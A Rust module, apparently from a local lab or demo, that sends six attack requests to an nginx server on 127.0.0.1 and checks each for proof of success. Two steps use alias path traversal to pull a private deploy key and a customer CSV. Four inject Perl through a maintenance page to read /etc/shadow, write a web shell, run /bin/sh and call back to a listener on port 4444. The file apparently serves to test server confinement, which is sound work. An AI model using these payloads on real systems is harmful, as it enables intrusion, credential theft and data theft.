//! The attack: six requests.

use std::{
    fmt::Write as _,
    io::{Read as _, Write as _},
    net::TcpStream,
    time::Duration,
};

/// Where nginx listens.
pub(crate) const ADDRESS: &str = "127.0.0.1:80";

/// Where the attacker waits for what he has broken into.
pub(crate) const HOME: &str = "127.0.0.1:4444";

/// One step, and what proves that it succeeded.
pub(crate) struct Step {
    /// What it does, in a few words.
    pub(crate) what: &'static str,
    /// What nginx would have to open, make, run or connect to.
    pub(crate) object: &'static str,
    request: Request,
    /// What the answer has in it if the step succeeded.
    proof: &'static str,
}

enum Request {
    /// A path that leaves the folder of a misconfigured `alias`.
    Path(&'static str),
    /// Perl for the maintenance page.
    Code(&'static str),
}

pub(crate) const STEPS: [Step; 6] = [
    Step {
        what: "key by alias traversal, GET /files../keys/deploy.key",
        object: "/srv/keys/deploy.key",
        request: Request::Path("/files../keys/deploy.key"),
        proof: "PRIVATE KEY",
    },
    Step {
        what: "code in nginx reads /etc/shadow",
        object: "/etc/shadow",
        request: Request::Code("open(F,'</etc/shadow')?join('',<F>):'refused'"),
        proof: "root:",
    },
    Step {
        what: "code in nginx writes a web shell, /srv/www/shell.html",
        object: "/srv/www/shell.html",
        request: Request::Code(
            "open(F,'>/srv/www/shell.html')&&print(F 'OWNED')&&close(F)?'written':'refused'",
        ),
        proof: "written",
    },
    Step {
        what: "code in nginx runs /bin/sh",
        object: "/usr/bin/dash",
        request: Request::Code("my $o=`/bin/sh -c id`;defined $o&&length $o?$o:'refused'"),
        proof: "uid=0",
    },
    Step {
        what: "code in nginx calls home, to 127.0.0.1:4444",
        object: "tcp:127.0.0.1:4444",
        request: Request::Code(
            "socket(S,2,1,0)&&connect(S,pack('SnC4x8',2,4444,127,0,0,1))?'connected':'refused'",
        ),
        proof: "connected",
    },
    Step {
        what: "customers by alias traversal, GET /files../legacy/customers.csv",
        object: "/srv/legacy/customers.csv",
        request: Request::Path("/files../legacy/customers.csv"),
        proof: "Ada Lovelace",
    },
];

/// Makes one step; what it found, if it did.
pub(crate) fn step(step: &Step) -> Option<String> {
    let path = match step.request {
        Request::Path(path) => path.to_owned(),
        Request::Code(code) => format!("/maintenance?{}", escaped(code)),
    };
    let answer = get(&path).body;
    answer.contains(step.proof).then(|| {
        let line = answer.lines().next().unwrap_or_default();
        line.chars().take(40).collect()
    })
}

/// An HTTP answer.
pub(crate) struct Answer {
    /// 0 if there was none.
    pub(crate) status: u16,
    pub(crate) body: String,
}

/// Gets `path`, as it is: no client in between puts the dots in order.
pub(crate) fn get(path: &str) -> Answer {
    let text = request(path).unwrap_or_default();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|status| status.parse().ok())
        .unwrap_or(0);
    Answer {
        status,
        body: body.to_owned(),
    }
}

fn request(path: &str) -> std::io::Result<String> {
    let mut stream = TcpStream::connect(ADDRESS)?;
    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
    write!(stream, "GET {path} HTTP/1.0\r\nHost: www\r\n\r\n")?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

/// Percent-encodes what may not stand in a request line.
fn escaped(code: &str) -> String {
    code.bytes().fold(String::new(), |mut text, byte| {
        if byte.is_ascii_alphanumeric() {
            text.push(char::from(byte));
        } else {
            let _infallible = write!(text, "%{byte:02X}");
        }
        text
    })
}
